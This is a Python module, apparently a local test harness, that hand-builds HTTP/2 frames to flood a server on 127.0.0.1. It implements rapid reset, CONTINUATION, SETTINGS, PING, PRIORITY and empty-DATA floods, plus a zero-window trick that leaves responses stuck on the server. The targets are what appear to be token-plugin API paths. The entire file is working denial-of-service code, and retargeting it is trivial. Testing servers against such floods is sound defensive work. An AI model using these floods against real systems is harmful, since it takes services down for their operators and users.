"""Floods of HTTP/2, frame by frame (RFC 9113): each kind is a few bytes for a client and may be much for a server."""

import asyncio
import struct
from collections.abc import Iterator

from client import BROKEN

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
AT_A_TIME = 50
"""Frames that are sent together."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that is not indexed (RFC 7541)."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def fields(method: bytes, path: bytes) -> bytes:
    """The fields of a request."""
    return literal(b":method", method) + literal(b":scheme", b"http") + literal(b":path", path)


GET = fields(b"GET", b"/rest/tokenwarden/1/openapi.json")
POST = fields(b"POST", b"/rest/de.resolution.apitokenauth/latest/user/token")


def streams(headers: bytes, flags: int, *behind: tuple[int, bytes]) -> Iterator[bytes]:
    """Request after request, each followed by the frames `behind`."""
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, flags, stream, headers) + b"".join(frame(kind, 0, stream, part) for kind, part in behind)


def one(first: bytes, then: bytes) -> Iterator[bytes]:
    """`first`, and then the same again and again."""
    yield first
    while True:
        yield then


KINDS = {
    "rapid reset": lambda: streams(GET, END_STREAM | END_HEADERS, (RST_STREAM, struct.pack(">I", 8))),
    "requests": lambda: streams(GET, END_STREAM | END_HEADERS),
    "settings": lambda: one(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "pings": lambda: one(b"", frame(PING, 0, 0, bytes(8))),
    "priorities": lambda: one(b"", frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 7))),
    "continuations": lambda: one(
        frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1, literal(b"x-filler", bytes([120]) * 100))
    ),
    "empty data": lambda: one(frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1)),
    "answers that nobody takes": lambda: streams(GET, END_STREAM | END_HEADERS),
}


class Flood:
    """Floods of one kind, and how many frames they sent."""

    def __init__(self, port: int, kind: str) -> None:
        self.port, self.kind, self.sent = port, kind, 0

    async def run(self, source: str, until: float) -> None:
        """Sends frames until then, connecting anew when the server has enough."""
        loop = asyncio.get_running_loop()
        while loop.time() < until:
            try:
                await asyncio.wait_for(self.one_connection(source), max(until - loop.time(), 0.1))
            except BROKEN:
                await asyncio.sleep(0.05)

    async def one_connection(self, source: str) -> None:
        """Floods one connection until it ends."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port, local_addr=(source, 0))
        takes = self.kind != "answers that nobody takes"
        # A window of nothing lets the server send no body.
        settings = b"" if takes else struct.pack(">HI", 4, 0)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        discarding = asyncio.create_task(discard(reader))
        try:
            frames = KINDS[self.kind]()
            while not discarding.done():
                writer.write(b"".join(next(frames) for _ in range(AT_A_TIME)))
                self.sent += AT_A_TIME
                await writer.drain()
                await asyncio.sleep(0.002 if takes else 0.1)
        finally:
            discarding.cancel()
            writer.transport.abort()


async def discard(reader: asyncio.StreamReader) -> None:
    """Reads what comes, until nothing does."""
    try:
        while await reader.read(1 << 16):
            pass
    except BROKEN:
        pass
